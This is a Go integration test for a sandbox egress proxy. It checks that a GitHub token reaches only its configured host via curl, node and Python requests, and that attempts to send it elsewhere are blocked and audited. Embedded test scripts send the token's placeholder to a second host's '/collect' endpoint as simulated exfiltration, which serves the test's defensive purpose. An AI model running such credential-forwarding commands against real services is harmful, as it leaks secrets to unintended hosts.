//go:build integration

package integration

import (
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sandboxrun/sandboxrun"
	"github.com/sandboxrun/sandboxrun/audit"
	"github.com/sandboxrun/sandboxrun/sandbox"
)

// The secret reaches its host from the HTTP clients skills use besides
// Python's urllib (egress_secrets_test.go covers urllib and git): curl,
// node's https module and Python requests. None of them is in the runner
// image but node, so the skill declares them as Debian packages and runs in
// its own skill image, built once for the whole test.

// curlScript calls the API with curl through HTTPS_PROXY, trusting the
// proxy once through the variables the run sets (CURL_CA_BUNDLE) and once,
// with those variables unset, through the image's bundle path, which the
// run's bundle is mounted over.
const curlScript = `set -u
A=$1 B=$2
auth="Authorization: Bearer ${GITHUB_TOKEN:-}"
call() {
  out=$(mktemp) err=$(mktemp)
  if code=$(curl -sS --max-time 20 -o "$out" -w '%{http_code}' "$@" 2>"$err"); then
    jq -n --arg s "$code" --rawfile b "$out" '{status: ($s | tonumber), body: $b}'
  else
    jq -n --rawfile e "$err" '{error: $e}'
  fi
  rm -f "$out" "$err"
}
get=$(call -H "$auth" "$A/repos/acme/curl")
image=$(unset SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO; call -H "$auth" "$A/repos/acme/curl-image-bundle")
other=$(call -H "X-Api-Key: ${GITHUB_TOKEN:-}" "$B/collect/curl")
jq -n --arg token "${GITHUB_TOKEN:-}" --arg client "$(curl --version | head -n1)" \
  --argjson get "$get" --argjson image_bundle "$image" --argjson other_host "$other" \
  '{token: $token, client: $client, get: $get, image_bundle: $image_bundle, other_host: $other_host}'
`

// nodeScript calls the API with node's https module. Node does not read
// HTTPS_PROXY itself, so the script opens the CONNECT tunnel to it, as
// https-proxy-agent and its kind do; the TLS and the request are the https
// module's (createConnection and no agent: it uses the tunnel's socket),
// trusting the proxy through NODE_EXTRA_CA_CERTS.
const nodeScript = `const http = require("http"), https = require("https"), tls = require("tls");
const [A, B] = process.argv.slice(2);
const tok = process.env.GITHUB_TOKEN || "";
const proxy = new URL(process.env.HTTPS_PROXY);
function call(url, headers) {
  const u = new URL(url);
  return new Promise((done) => {
    const c = http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: u.host, headers: {Host: u.host}});
    c.setTimeout(20000, () => c.destroy(new Error("timeout")));
    c.on("error", (e) => done({error: String(e)}));
    c.on("connect", (res, socket) => {
      if (res.statusCode !== 200) {
        socket.destroy();
        return done({status: res.statusCode, body: "CONNECT refused"});
      }
      const r = https.request({host: u.hostname, port: u.port, path: u.pathname + u.search, headers,
        createConnection: () => tls.connect({socket, host: u.hostname})}, (resp) => {
        let body = "";
        resp.setEncoding("utf8");
        resp.on("data", (d) => { body += d; });
        resp.on("end", () => done({status: resp.statusCode, body}));
      });
      r.on("error", (e) => done({error: String(e)}));
      r.end();
    });
    c.end();
  });
}
(async () => {
  const out = {token: tok, client: "node " + process.version};
  out.get = await call(A + "/repos/acme/node", {Authorization: "Bearer " + tok});
  out.other_host = await call(B + "/collect/node", {"X-Api-Key": tok});
  console.log(JSON.stringify(out));
})();
`

// requestsScript calls the API with Debian's python3-requests, which
// follows HTTPS_PROXY and trusts REQUESTS_CA_BUNDLE.
const requestsScript = `import json, os, sys, requests
A, B = sys.argv[1], sys.argv[2]
tok = os.environ.get("GITHUB_TOKEN", "")
def call(url, headers):
    try:
        r = requests.get(url, headers=headers, timeout=20)
        return {"status": r.status_code, "body": r.text}
    except Exception as e:
        return {"error": type(e).__name__ + ": " + str(e)}
print(json.dumps({
  "token": tok,
  "client": "requests " + requests.__version__ + " " + requests.__file__,
  "get": call(A + "/repos/acme/requests", {"Authorization": "Bearer " + tok}),
  "other_host": call(B + "/collect/requests", {"X-Api-Key": tok}),
}))
`

func TestEgressSecretsClients(t *testing.T) {
	t.Parallel()
	logs := &apiLog{}
	other := httptest.NewUnstartedServer(logs.handler(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "other host") }))
	other.Config.ErrorLog = log.New(io.Discard, "", 0)
	other.StartTLS()
	t.Cleanup(other.Close)
	// A careless API that echoes the credential back: the proxy masks it.
	api := httptest.NewUnstartedServer(logs.handler(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "auth=%s", r.Header.Get("Authorization"))
	}))
	api.Config.ErrorLog = log.New(io.Discard, "", 0)
	api.StartTLS()
	t.Cleanup(api.Close)
	a, b := strings.TrimPrefix(api.URL, "https://"), strings.TrimPrefix(other.URL, "https://")

	dir := t.TempDir()
	caFile := filepath.Join(dir, "internal-ca.pem")
	require.NoError(t, os.WriteFile(caFile, []byte(pemOf(api.Certificate().Raw)+pemOf(other.Certificate().Raw)), 0o644))
	name := fmt.Sprintf("it-seccli-%d", os.Getpid())
	root := cliSkill(t, name, fmt.Sprintf("metadata:\n  network_access: \"true\"\n  allowed_domains: \"%s %s\"\n  secrets: \"GITHUB_TOKEN\"\n"+
		"  system_packages: \"curl nodejs python3-requests\"\n", a, b),
		map[string]string{"scripts/call.sh": curlScript, "scripts/call.js": nodeScript, "scripts/call.py": requestsScript})
	// The other host has a rule, so the proxy ends its TLS too and sees
	// the headers sent to it: an untouched tunnel would hide them.
	pol := filepath.Join(dir, "policy.yaml")
	require.NoError(t, os.WriteFile(pol, []byte(fmt.Sprintf(`network: allowlist
allowed_domains: ["%[1]s", "%[2]s"]
egress:
  allow_cidrs: [127.0.0.1/32]
  upstream_ca: %[3]s
  rules:
    - {host: "%[1]s", methods: [GET], paths: [/repos/acme/]}
    - {host: "%[2]s"}
secrets:
  GITHUB_TOKEN: {from_env: IT_API_TOKEN, hosts: ["%[1]s"], header: "Authorization: Bearer {value}"}
skills:
  %[4]s:
    secrets: [GITHUB_TOKEN]
`, a, b, caFile, name)), 0o644))
	env := []string{"SANDBOXRUN_RUNNER_IMAGE=" + sandboxrun.RunnerImage(), "IT_API_TOKEN=" + secretValue}

	// Build the skill image once, before the clients run side by side.
	r := cli(t, root, env, "", "--skills", root, "--policy", pol, "build", name)
	require.Equal(t, 0, r.code, "stdout: %s\nstderr: %s", r.stdout, r.stderr)
	m := regexp.MustCompile(`: (sandboxrun/skill-\S+) (built|up to date) \(\S+\) in (\S+)`).FindStringSubmatch(r.stdout)
	require.NotNil(t, m, r.stdout)
	removeImageOnCleanup(t, m[1])
	requireNoBuildLeftovers(t, m[1])
	t.Logf("skill image %s %s in %s", m[1], m[2], m[3])

	t.Run("clients", func(t *testing.T) {
		for _, c := range []struct{ client, script, ua string }{
			{"curl", "scripts/call.sh", "curl/"},
			{"node", "scripts/call.js", ""},
			{"requests", "scripts/call.py", "python-requests/"},
		} {
			t.Run(c.client, func(t *testing.T) {
				t.Parallel()
				clientRun(t, runArgs{root: root, pol: pol, skill: name, script: c.script, env: env, a: a, b: b, client: c.client, ua: c.ua}, logs)
			})
		}
	})

	// What the clients sent to the other host never got there.
	require.NotContains(t, logs.String(), b+" GET /collect/")
	require.NotContains(t, strings.ReplaceAll(logs.String(), "Authorization:[Bearer "+secretValue+"]", ""), secretValue,
		"the servers saw the value only in the configured header")
	requireNoSkillContainers(t, name)
}

type runArgs struct {
	root, pol, skill, script string
	env                      []string
	a, b                     string // the API's and the other host's host:port
	client, ua               string
}

// clientRun runs one client's script and checks what arrived where, and
// that the value is in none of the records.
func clientRun(t *testing.T, ra runArgs, logs *apiLog) {
	auditLog := filepath.Join(t.TempDir(), "audit.jsonl")
	tmp := shortDir(t)
	r := cli(t, ra.root, append([]string{"TMPDIR=" + tmp}, ra.env...), "", "--skills", ra.root, "--policy", ra.pol,
		"run", "--json", "--no-build", "--audit-log", auditLog, ra.skill, ra.script, "--", "https://"+ra.a, "https://"+ra.b)
	require.Equal(t, 0, r.code, "stdout: %s\nstderr: %s", r.stdout, r.stderr)
	requireEmptyDir(t, tmp)
	var res sandbox.Result
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &res))
	require.True(t, res.Success, "stdout: %s\nstderr: %s", res.Stdout, res.Stderr)
	var out struct {
		Token       string   `json:"token"`
		Client      string   `json:"client"`
		Get         fetched  `json:"get"`
		ImageBundle *fetched `json:"image_bundle"`
		OtherHost   fetched  `json:"other_host"`
	}
	require.NoError(t, json.Unmarshal(res.Output, &out), res.Stdout+res.Stderr)
	t.Logf("%s: %s", ra.client, out.Client)
	require.True(t, strings.HasPrefix(out.Token, "sandboxrun-secret-"), "the sandbox holds a placeholder: %q", out.Token)

	// The secret arrived in the configured header; the API's echo of it
	// came back masked.
	masked := "auth=Bearer " + strings.Repeat("*", len(secretValue))
	paths := []string{"/repos/acme/" + ra.client}
	require.Equal(t, fetched{Status: 200, Body: masked}, out.Get)
	if ra.client == "curl" {
		require.NotNil(t, out.ImageBundle, "curl with only the image's bundle path")
		require.Equal(t, fetched{Status: 200, Body: masked}, *out.ImageBundle)
		paths = append(paths, "/repos/acme/curl-image-bundle")
	}
	for _, p := range paths {
		line := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(ra.a+" GET "+p+" headers=") + `.*$`).FindString(logs.String())
		require.NotEmpty(t, line, "%s never arrived:\n%s", p, logs.String())
		require.Contains(t, line, "Authorization:[Bearer "+secretValue+"]", line)
		if ra.ua != "" { // node's https module sends none of its own
			require.Contains(t, line, "User-Agent:["+ra.ua, "the request came from %s: %s", ra.client, line)
		}
		require.NotContains(t, line, "sandboxrun-secret-", "the placeholder was replaced")
	}

	// The placeholder sent to another allowed host is refused, and the
	// refusal is recorded.
	require.Equal(t, 403, out.OtherHost.Status, "%+v", out.OtherHost)
	require.Contains(t, out.OtherHost.Body, "the placeholder of secret GITHUB_TOKEN is in the header X-Api-Key of a request to 127.0.0.1")
	require.Equal(t, int64(1), res.Egress.ExfiltrationAttempts)
	auditText := readFile(t, auditLog)
	var rec audit.Record
	require.NoError(t, json.Unmarshal([]byte(strings.TrimSpace(auditText)), &rec))
	applied, refused := 0, 0
	bPort, err := strconv.Atoi(portOf(t, "https://"+ra.b))
	require.NoError(t, err)
	for _, d := range rec.Egress.Decisions {
		if len(d.Secrets) > 0 {
			require.Equal(t, []string{"GITHUB_TOKEN"}, d.Secrets)
			require.Contains(t, paths, d.Path)
			applied++
		}
		if d.Exfiltration {
			require.Equal(t, "GET /collect/"+ra.client, d.Method+" "+d.Path)
			require.Equal(t, uint16(bPort), d.Port)
			require.False(t, d.Allowed)
			refused++
		}
	}
	require.Equal(t, len(paths), applied, "secrets applied: %+v", rec.Egress.Decisions)
	require.Equal(t, 1, refused, "exfiltration recorded: %+v", rec.Egress.Decisions)

	// The value is nowhere in the Result, the CLI's output or the audit.
	for what, text := range map[string]string{"result": r.stdout, "stderr": r.stderr, "audit": auditText} {
		require.NotContains(t, text, secretValue, what)
	}
}
